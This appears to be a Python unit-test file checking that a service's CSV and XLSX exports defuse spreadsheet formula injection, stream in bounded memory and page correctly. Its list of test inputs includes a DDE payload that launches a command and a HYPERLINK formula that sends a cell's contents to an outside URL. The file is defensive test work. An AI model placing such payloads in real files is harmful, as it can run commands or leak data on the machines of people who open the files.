"""What a spreadsheet is given to open."""

import csv
import io
import re
import tracemalloc

import ddt
import openpyxl
from oslotest import base

from clouddesk.api import export

COLUMNS = ('name', 'size')

#: What people could type, or another service could say.
EVIL = (
    '=1+1',
    '+1',
    '-1+2',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u3000=1+1',
    '\ufeff=1+1',
    '\x00=1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    '=cmd|"/C calc"!A0',
)


def rows_of(format_, rows, columns=COLUMNS):
    """What programs read, beside the heading."""
    data = b''.join(export.stream(format_, columns, iter(rows)))
    if format_ == export.CSV:
        text = data.decode()
        heading, *found = csv.reader(io.StringIO(text, newline=''))
        return heading, found
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    heading, *found = sheet.iter_rows(values_only=True)
    return list(heading), [list(row) for row in found]


@ddt.ddt
class HarmlessTest(base.BaseTestCase):
    @ddt.data(*EVIL)
    def test_no_cell_is_a_formula(self, text):
        """V29: what people typed is never calculated."""
        for format_ in export.MEDIA:
            _heading, ((name, _size),) = rows_of(
                format_, [{'name': text, 'size': 1}]
            )
            self.assertTrue(name.startswith("'"), (format_, name))

    @ddt.data(*EVIL)
    def test_no_cell_of_a_workbook_has_a_formula(self, text):
        data = b''.join(
            export.stream(export.XLSX, ['name'], iter([{'name': text}]))
        )
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        self.assertEqual('s', sheet['A2'].data_type)
        self.assertIsNone(sheet['A2'].hyperlink)

    @ddt.data('Ada', '张三', '2-1', 'a=b', '', 'http://example.org/', '007')
    def test_other_texts_stay_as_they_are(self, text):
        for format_ in export.MEDIA:
            _heading, ((name, _size),) = rows_of(
                format_, [{'name': text, 'size': 1}]
            )
            self.assertEqual(text, name or '')

    def test_quotes_and_separators_stay_in_their_cell(self):
        """A cell cannot begin another one, where a formula could hide."""
        text = 'a","=1+1\n=2+2;=3'
        for format_ in export.MEDIA:
            _heading, found = rows_of(format_, [{'name': text, 'size': 1}])
            self.assertEqual(1, len(found), format_)
            self.assertEqual(text, found[0][0].replace("'", ''))

    @ddt.data(';=1+1', 'a; =1+1', 'a\t=1+1', 'a\n-1', 'a;"@SUM(A1)', 'a;＝1')
    def test_no_part_of_a_cell_is_a_formula(self, text):
        """V29: semicolons part the cells in much of Europe."""
        rows = iter([{'name': text, 'size': 1}])
        data = b''.join(export.stream(export.CSV, COLUMNS, rows)).decode()
        for begin in re.split('[;\t\r\n]', data):
            begin = begin.lstrip(' "')[:1]
            self.assertNotIn(begin or 'x', '=+-@＝', data)

    @ddt.data('a; b', 'a;b=1', '1-2; x')
    def test_other_semicolons_stay_as_they_are(self, text):
        rows = [{'name': text, 'size': 1}]
        _heading, ((name, _size),) = rows_of(export.CSV, rows)
        self.assertEqual(text, name)

    def test_numbers_stay_numbers(self):
        _heading, ((_name, size),) = rows_of(
            export.XLSX, [{'name': 'Ada', 'size': 20}]
        )
        self.assertEqual(20, size)


class CellTest(base.BaseTestCase):
    def test_what_the_api_shows(self):
        address = {'address': '10.0.0.5', 'version': 4, 'type': 'fixed'}
        for value, expected in (
            (None, ''),
            (True, 'true'),
            (7, 7),
            (['a', 'b'], 'a, b'),
            ([address, address | {'address': '::1'}], '10.0.0.5, ::1'),
            ({'code': 'x', 'message': '=No host'}, "'=No host"),
            ({'type': 'user', 'id': 'u1', 'assigned_at': 'now'}, 'user u1'),
            ({'id': 't1', 'name': 'win11', 'revision': 3}, 'win11 3'),
            ({'colour': 'red'}, ''),
        ):
            self.assertEqual(expected, export.cell(value))


class StreamTest(base.BaseTestCase):
    def endless(self, count, seen):
        for number in range(count):
            seen.append(number)
            yield {'name': 'desk_%06d' % number, 'size': number}

    def test_csv_goes_out_while_it_is_read(self):
        seen = []
        stream = export.stream(export.CSV, COLUMNS, self.endless(50000, seen))
        self.assertEqual(1, len(seen))
        next(stream)
        self.assertLess(len(seen), 10000)

    def test_memory_does_not_grow_with_the_list(self):
        """V29: a list of any length is exported in the same memory."""
        for format_ in export.MEDIA:
            peaks = [self.peak(format_, count) for count in (2000, 20000)]
            self.assertLess(peaks[1] - peaks[0], 2 * 2**20, format_)

    def peak(self, format_, count):
        rows = (
            {'name': 'desk_%06d' % number, 'size': number}
            for number in range(count)
        )
        tracemalloc.start()
        try:
            for _piece in export.stream(format_, COLUMNS, rows):
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def test_what_is_wrong_shows_before_the_answer_begins(self):
        def broken():
            raise LookupError()
            yield

        for format_ in export.MEDIA:
            self.assertRaises(
                LookupError, export.stream, format_, COLUMNS, broken()
            )

    def test_nothing_to_export(self):
        for format_ in export.MEDIA:
            heading, found = rows_of(format_, [])
            self.assertEqual((list(COLUMNS), []), (heading, found))

    def test_pages(self):
        asked = []

        def fetch(last):
            asked.append(last)
            start = 0 if last is None else last + 1
            return list(range(start, min(start + 3, 7)))

        self.assertEqual(list(range(7)), list(export.pages(fetch, 3)))
        self.assertEqual([None, 2, 5], asked)
